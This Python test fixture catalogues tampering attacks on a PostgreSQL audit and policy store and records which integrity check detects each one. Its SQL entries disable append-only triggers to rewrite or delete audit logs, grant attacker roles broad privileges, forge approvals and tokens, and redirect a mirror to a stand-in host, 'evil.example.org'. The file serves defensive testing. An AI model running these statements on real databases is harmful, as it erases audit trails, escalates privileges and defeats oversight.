"""Attacks that PostgreSQL lets somebody do: what is tried, by whom, and who tells of it."""

from typing import NamedTuple

AS_OWNER = "set role cmbs_owner"
LOG, IDENTITIES = "cmbs_store.audit_event", "cmbs_store.identity_event"


class Detected(NamedTuple):
    """Told by the beginning of a finding or note of doctor, by verify, or by verify_identities.

    `told` is empty where nothing in the database tells.
    """

    key: str
    actor: str
    by: str
    told: str
    statements: tuple[str, ...]
    undo: str = ""


def _doctor(key: str, told: str, *statements: str, actor: str = "owner") -> Detected:
    first = (AS_OWNER,) if actor == "owner" else ()
    return Detected(key, actor, "doctor", told, (*first, *statements))


def _past_triggers(
    key: str, by: str, table: str, *statements: str, trigger: str = "append_only"
) -> Detected:
    """With a trigger of a table off, and on again as if nothing had happened."""
    name = f"{table.partition('.')[2]}_{trigger}"
    off, on = (f"alter table {table} {how} trigger {name}" for how in ("disable", "enable always"))
    return Detected(key, "owner", by, "", (AS_OWNER, off, *statements, on))


def _verify(key: str, *statements: str, by: str = "verify") -> Detected:
    return Detected(key, "owner", by, "", (AS_OWNER, *statements))


BY_DOCTOR = [
    _doctor("the owner disables a trigger", "table cmbs_store.audit_event: firing of trigger",
            f"alter table {LOG} disable trigger all"),
    _doctor("the owner drops a trigger", "table cmbs_store.audit_event: trigger",
            f"drop trigger audit_event_append_only on {LOG}"),
    _doctor("the owner adds a rule", "table cmbs_store.tombstone: rule",
            "create rule r as on insert to cmbs_store.tombstone do instead nothing"),
    _doctor("the owner adds a row policy", "table cmbs_store.session: policy",
            "create policy p on cmbs_store.session using (false)"),
    _doctor("the owner adds a child table", "table cmbs_store.conclusion: child",
            "create table cmbs_store.c () inherits (cmbs_store.conclusion)"),
    _doctor("the owner renames a table", "table cmbs_store.session is missing",
            "alter table cmbs_store.session rename to s"),
    _doctor("the owner renames a column", "table cmbs_store.session: column tenant is missing",
            "alter table cmbs_store.session rename tenant to t"),
    _doctor("the owner renames a schema", "schema cmbs_store is missing",
            "alter schema cmbs_store rename to s"),
    _doctor("the owner moves a table", "table cmbs_store.conclusion is missing",
            "create schema elsewhere",
            "alter table cmbs_store.conclusion set schema elsewhere"),
    _doctor("the owner grants a table", "table cmbs_store.session: select for attacker_agent",
            "grant select on cmbs_store.session to attacker_agent"),
    _doctor("the owner grants a column",
            "table cmbs_store.session: update (tenant) for cmbs_kernel",
            "grant update (tenant) on cmbs_store.session to cmbs_kernel"),
    _doctor("the owner changes default privileges", "default privileges",
            "alter default privileges grant all on tables to attacker_agent"),
    _doctor("the owner replaces a function", "function cmbs.verify(uuid,bytea)",
            "drop function cmbs.verify(uuid, bytea)",
            "create function cmbs.verify(p_session_id uuid, p_credential bytea default null) "
            "returns json language sql as $$ select '{\"ok\": true}'::json $$"),
    _doctor("the owner shadows a function", "function cmbs.verify(text) should not be there",
            "create function cmbs.verify(text) returns text language sql as 'select $1'"),
    _doctor("the owner shadows a type", "type cmbs_store.uuid should not be there",
            "create domain cmbs_store.uuid as text"),
    _doctor("the owner shadows an operator", "operator cmbs_store.=",
            "create operator cmbs_store.= (leftarg = text, rightarg = text, function = texteq)"),
    _doctor("the owner widens a view", "view cmbs.chain_head is not that of this version",
            "create or replace view cmbs.chain_head with (security_barrier) as select "
            "s.session_id, s.audit_seq, s.audit_head_event_id, encode(s.audit_head_hash, 'hex') "
            "as audit_head_hash, s.audit_head_at from cmbs_store.session as s"),
    _doctor("the owner takes a view's barrier away", "view cmbs.session: security_barrier",
            "alter view cmbs.session reset (security_barrier)"),
    _doctor("the owner publishes a table", "note publication p sends tables",
            f"create publication p for table {LOG}"),
    _doctor("a superuser runs a function as its caller", "function cmbs.verify(uuid,bytea)",
            "alter function cmbs.verify(uuid, bytea) security invoker", actor="superuser"),
    _doctor("a superuser sets the search path of a function", "function cmbs.verify(uuid,bytea)",
            "alter function cmbs.verify(uuid, bytea) set search_path = public",
            actor="superuser"),
    _doctor("a superuser replaces a helper", "function cmbs_store.check_source",
            "create or replace function cmbs_store.check_source(p_caller cmbs_store.principal, "
            "p_source_id text) returns void language sql as ''", actor="superuser"),
    _doctor("a superuser switches triggers off for a database",
            "database: setting session_replication_role",
            "do $$ begin execute format('alter database %I set session_replication_role = "
            "replica', current_database()); end $$", actor="superuser"),
    _doctor("a superuser adds an event trigger", "event trigger",
            "create function public.f() returns event_trigger language plpgsql as "
            "'begin end'", "create event trigger e on sql_drop execute function public.f()",
            actor="superuser"),
    _doctor("a superuser lets a login read all tables", "note attacker_agent may pass by all",
            "grant pg_read_all_data to attacker_agent", actor="superuser")._replace(
            undo="revoke pg_read_all_data from attacker_agent"),
    _doctor("a superuser makes a login a member of the owner", "note attacker_agent may act as",
            "grant cmbs_owner to attacker_agent", actor="superuser")._replace(
            undo="revoke cmbs_owner from attacker_agent"),
    _doctor("a superuser lets a login make roles", "note attacker_agent may make roles",
            "alter role attacker_agent createrole", actor="superuser")._replace(
            undo="alter role attacker_agent nocreaterole"),
]  # fmt: skip

_ALIEN = "tenant, name, kind, is_login, created_at, roles, source_prefixes, is_enabled"
BY_VERIFY = [
    _past_triggers("the owner changes an event", "verify", LOG,
                   f"update {LOG} set record = replace(record, 'own', 'new')"),
    _past_triggers("the owner deletes an event", "verify", LOG, f"delete from {LOG} where seq = 2"),
    _past_triggers("the owner cuts the log", "verify", LOG, f"delete from {LOG} where seq > 2"),
    _past_triggers("the owner brings a hypothesis back", "verify", "cmbs_store.tombstone",
                   "delete from cmbs_store.tombstone"),
    _verify("the owner changes survivors", "update cmbs_store.session set n_survivors = 3"),
    _verify("the owner lets a session come from another incident",
            "update cmbs_store.session set universe_from = '{\"tee_incident\": \"other\"}' "
            "where universe_from is not null"),
    _verify("the owner ends a session", "update cmbs_store.session set is_terminated = true"),
    _past_triggers("the owner changes an entry of a policy", "verify", "cmbs_store.policy_entry",
                   "update cmbs_store.policy_entry set effect = 'allow' where effect = 'deny'"),
    _past_triggers("the owner changes the definition of a tool", "verify",
                   "cmbs_store.tool_definition", "update cmbs_store.tool_definition "
                   "set definition = replace(definition, '\"external\"', '\"none\"')"),
    _past_triggers("the owner changes a schema", "verify", "cmbs_store.schema_document",
                   "update cmbs_store.schema_document "
                   "set document = replace(document, '\"object\"', '\"array\"')"),
    _past_triggers("the owner gives a capability token more budget", "verify",
                   "cmbs_store.capability_token", "update cmbs_store.capability_token "
                   "set budgets = '{\"max_calls\": 1000000}'"),
    _past_triggers("the owner un-revokes a capability token", "verify",
                   "cmbs_store.capability_revocation",
                   "delete from cmbs_store.capability_revocation"),
    _verify("the owner writes a fact", "insert into cmbs_store.state_value "
            "(session_id, seq, key, value) select v.session_id, v.seq, 'fact.new', v.value "
            "from cmbs_store.state_value as v"),
    _verify("the owner lets another policy decide", "insert into cmbs_store.policy_pin "
            "select n.session_id, n.seq + 1, n.pack, n.version, n.policy_hash "
            "from cmbs_store.policy_pin as n"),
    _past_triggers("the owner lets a permit last", "verify", "cmbs_store.permit",
                   "update cmbs_store.permit set expires_at = expires_at + interval '1 day'"),
    _verify("the owner begins an execution", "insert into cmbs_store.permit_begin "
            "select p.session_id, p.permit_id, p.seq + 1, p.actor from cmbs_store.permit as p "
            "on conflict do nothing"),
    _past_triggers("the owner takes an execution back", "verify", "cmbs_store.permit_begin",
                   "delete from cmbs_store.permit_begin"),
    _past_triggers("the owner changes how an execution ended", "verify", "cmbs_store.permit_end",
                   "update cmbs_store.permit_end set status = 'rolled_back'"),
    _verify("the owner answers a question", "insert into cmbs_store.interrupt_resolution "
            "select i.session_id, i.interrupt_id, i.seq + 1, 'approve', 'approver' "
            "from cmbs_store.interrupt as i on conflict do nothing"),
    _past_triggers("the owner changes an answer", "verify", "cmbs_store.interrupt_resolution",
                   "update cmbs_store.interrupt_resolution set resolution = 'decline'"),
    _past_triggers("the owner makes an approval new", "verify", "cmbs_store.interrupt_use",
                   "delete from cmbs_store.interrupt_use"),
    _past_triggers("the owner keeps a deferral from being tried", "verify", "cmbs_store.deferral",
                   "update cmbs_store.deferral set next_at = null"),
    _verify("the owner sets the mode", "insert into cmbs_store.session_mode "
            "select m.session_id, m.seq + 1, 'boost' from cmbs_store.session_mode as m"),
    _verify("the owner makes up that the clock was set back",
            "insert into cmbs_store.clock_step "
            "select m.session_id, m.seq + 1, 1 from cmbs_store.session_mode as m"),
    _past_triggers("the owner takes a shadow away", "verify", "cmbs_store.shadow_pin",
                   "delete from cmbs_store.shadow_pin"),
    _verify("the owner hides a question from the inbox",
            "update cmbs_store.open_item set is_open = false"),
    _past_triggers("the owner confirms a claim", "verify", "cmbs_store.claim",
                   "update cmbs_store.claim set is_confirmed = true"),
    _past_triggers("the owner changes an identity event", "verify_identities", IDENTITIES,
                   f"update {IDENTITIES} set record = replace(record, 'agent', 'admin')"),
    _past_triggers("the owner deletes identity events", "verify_identities", IDENTITIES,
                   f"delete from {IDENTITIES} where tenant = 'alpha' and seq > 3"),
    _past_triggers("the owner deletes a whole log of identities", "verify_identities", IDENTITIES,
                   f"delete from {IDENTITIES} where tenant = 'alpha'"),
    _verify("the owner replays an identity event",
            f"insert into {IDENTITIES} select e.tenant, e.seq + 1, e.recorded_at, e.event_hash, "
            f"e.verb, e.actor, e.record from {IDENTITIES} as e where e.tenant = 'beta' "
            "order by e.seq desc limit 1", by="verify_identities"),
    _verify("the owner un-revokes a token", "update cmbs_store.api_token set revoked_at = null",
            by="verify_identities"),
    _verify("the owner gives a token more time", "update cmbs_store.api_token "
            "set expires_at = expires_at + interval '1 year'", by="verify_identities"),
    _verify("the owner gives a principal roles", "update cmbs_store.principal "
            "set roles = '{admin}' where name = 'agent'", by="verify_identities"),
    _verify("the owner widens prefixes", "update cmbs_store.principal "
            "set source_prefixes = '{\"\"}'", by="verify_identities"),
    _verify("the owner moves a principal to all tenants", "insert into cmbs_store.principal "
            f"({_ALIEN}) select '*', 'alien', kind, is_login, created_at, roles, source_prefixes, "
            "is_enabled from cmbs_store.principal where name = 'admin'", by="verify_identities"),
    _verify("the owner makes a token", "insert into cmbs_store.api_token "
            "select sha256(sha256('x')), gen_random_uuid(), "
            "t.tenant, t.name, t.prefix, t.verbs, t.scope_tenant, "
            "t.created_at, t.created_by, t.expires_at, null, 0 from cmbs_store.api_token as t "
            "where t.name = 'admin'", by="verify_identities"),
    _verify("the owner swaps the secret of a token", "update cmbs_store.api_token "
            "set credential_hash = sha256(sha256('x')) where name = 'admin'",
            by="verify_identities"),
    _verify("the owner turns the head of identities back", "update cmbs_store.identity_head "
            "set seq = 1 where tenant = 'alpha'", by="verify_identities"),
    _verify("the owner deletes the head of identities",
            "alter table cmbs_store.identity_head disable trigger all",
            "delete from cmbs_store.identity_head where tenant = 'alpha'",
            "alter table cmbs_store.identity_head enable always trigger identity_head_append_only",
            by="verify_identities"),
]  # fmt: skip

_CUT = (
    f"alter table {IDENTITIES} disable trigger identity_event_append_only",
    "alter table cmbs_store.api_token disable trigger api_token_append_only",
    "delete from cmbs_store.api_token where tenant = 'beta'",
    "alter table cmbs_store.principal disable trigger principal_append_only",
    "delete from cmbs_store.principal where tenant = 'beta' and name <> 'agent'",
    "alter table cmbs_store.principal enable always trigger principal_append_only",
    f"delete from {IDENTITIES} where tenant = 'beta' and seq > 1",
    "update cmbs_store.identity_head as h set seq = 1, event_hash = e.event_hash, recorded_at = "
    f"e.recorded_at from {IDENTITIES} as e where h.tenant = 'beta' and e.tenant = 'beta'",
    f"alter table {IDENTITIES} enable always trigger identity_event_append_only",
    "alter table cmbs_store.api_token enable always trigger api_token_append_only",
)
BY_NOBODY = [
    _verify("the owner cuts a log with its head", *_CUT, by="nobody"),
    _past_triggers("the owner moves a session to another tenant", "nobody", "cmbs_store.session",
                   "update cmbs_store.session set tenant = 'alpha'",
                   "update cmbs_store.open_item set tenant = 'alpha'", trigger="tenant_fixed"),
    _past_triggers("the owner moves an elimination context to another tenant", "nobody",
                   "cmbs_store.context", "update cmbs_store.context set tenant = 'beta'",
                   trigger="tenant_fixed"),
    _verify("the owner publishes a version of a policy", "insert into cmbs_store.policy_version "
            "select v.tenant, v.pack, v.version + 1, v.policy_hash, v.fixtures, v.published_at, "
            "v.published_by from cmbs_store.policy_version as v", by="nobody"),
    _verify("the owner registers a tool", "insert into cmbs_store.tool_registration "
            "select t.tenant, t.tool_id, t.registration_no + 1, null, t.registered_at, "
            "t.registered_by from cmbs_store.tool_registration as t", by="nobody"),
    _verify("the owner uses the kill switch", "insert into cmbs_store.policy_halt values "
            "('alpha', 9, false, 'r', now(), 'policy')", by="nobody"),
    _verify("the owner lets a webhook go elsewhere", "insert into cmbs_store.webhook "
            "select w.tenant, w.webhook_no + 1, 'https://example.org/other', w.secret, w.set_at, "
            "w.set_by from cmbs_store.webhook as w", by="nobody"),
    _verify("the owner keeps messages from being told",
            "update cmbs_store.webhook_message set state = 'delivered'", by="nobody"),
    _past_triggers("the owner changes a node of the graph", "nobody", "cmbs_store.graph_node",
                   "update cmbs_store.graph_node set label = 'x', trigger = 'x'"),
    _past_triggers("the owner takes an edge out of the graph", "nobody", "cmbs_store.graph_edge",
                   "delete from cmbs_store.graph_edge"),
    _past_triggers("the owner pins an incident to another version", "nobody",
                   "cmbs_store.incident", "update cmbs_store.incident set version = 2",
                   trigger="tenant_fixed"),
    _past_triggers("the owner takes a tombstone of an incident back", "nobody",
                   "cmbs_store.node_tombstone", "delete from cmbs_store.node_tombstone"),
    _past_triggers("the owner says that somebody else ruled it out", "nobody",
                   "cmbs_store.incident_event",
                   "update cmbs_store.incident_event set source_id = 'x', actor = 'x'"),
    _verify("the owner lets a mirror go elsewhere", "insert into cmbs_store.tee_mirror "
            "select m.mirror_no + 1, 'evil.example.org:1', m.set_at, m.set_by "
            "from cmbs_store.tee_mirror as m", by="nobody"),
    _verify("the owner keeps a Tee from being told",
            "update cmbs_store.tee_message set state = 'delivered'", by="nobody"),
    _verify("the owner takes a session out of the mirror",
            "update cmbs_store.session set is_mirrored = false", by="nobody"),
    _verify("the owner hides when a token was used",
            "update cmbs_store.api_token_use set used_at = '2000-01-01'", by="nobody"),
    Detected("a superuser speaks as another login", "superuser", "nobody", "", (
        "set session authorization attacker_agent",
        "select cmbs.eliminate('<own>', 's', 'superuser', '{x}')")),
    Detected("a superuser gives a login the name of another", "superuser", "nobody", "", (
        "alter role attacker_agent rename to attacker_once",
        "alter role attacker_admin rename to attacker_agent"),
        "alter role attacker_agent rename to attacker_admin; "
        "alter role attacker_once rename to attacker_agent"),
    Detected("somebody fills a disk with large objects", "agent", "nobody", "", (
        "select lo_from_bytea(0, 'x')",)),
]  # fmt: skip

# Before version 16 whoever has CREATEROLE may grant every role that is no superuser's.
BY_CREATEROLE = [
    Detected("become a member of the owner", "createrole", "doctor",
             "note attacker_createrole may act as cmbs_owner",
             ("grant cmbs_owner to attacker_createrole",),
             "revoke cmbs_owner from attacker_createrole"),
    Detected("become a reader of all tables", "createrole", "doctor",
             "note attacker_createrole may pass by all grants by membership in pg_read_all_data",
             ("grant pg_read_all_data to attacker_createrole",),
             "revoke pg_read_all_data from attacker_createrole"),
    Detected("settings of the server's login", "createrole", "doctor",
             "settings of role cmbs_server: search_path",
             ("alter role cmbs_server set search_path = public",),
             "alter role cmbs_server reset search_path"),
    Detected("take the name of another login", "createrole", "nobody", "",
             ("alter role attacker_agent rename to attacker_once", "create role attacker_agent"),
             "drop role attacker_agent; alter role attacker_once rename to attacker_agent"),
    Detected("become an agent", "createrole", "nobody", "",
             ("grant cmbs_agent to attacker_createrole",),
             "revoke cmbs_agent from attacker_createrole"),
]  # fmt: skip

DETECTED = [*BY_DOCTOR, *BY_VERIFY, *BY_NOBODY]
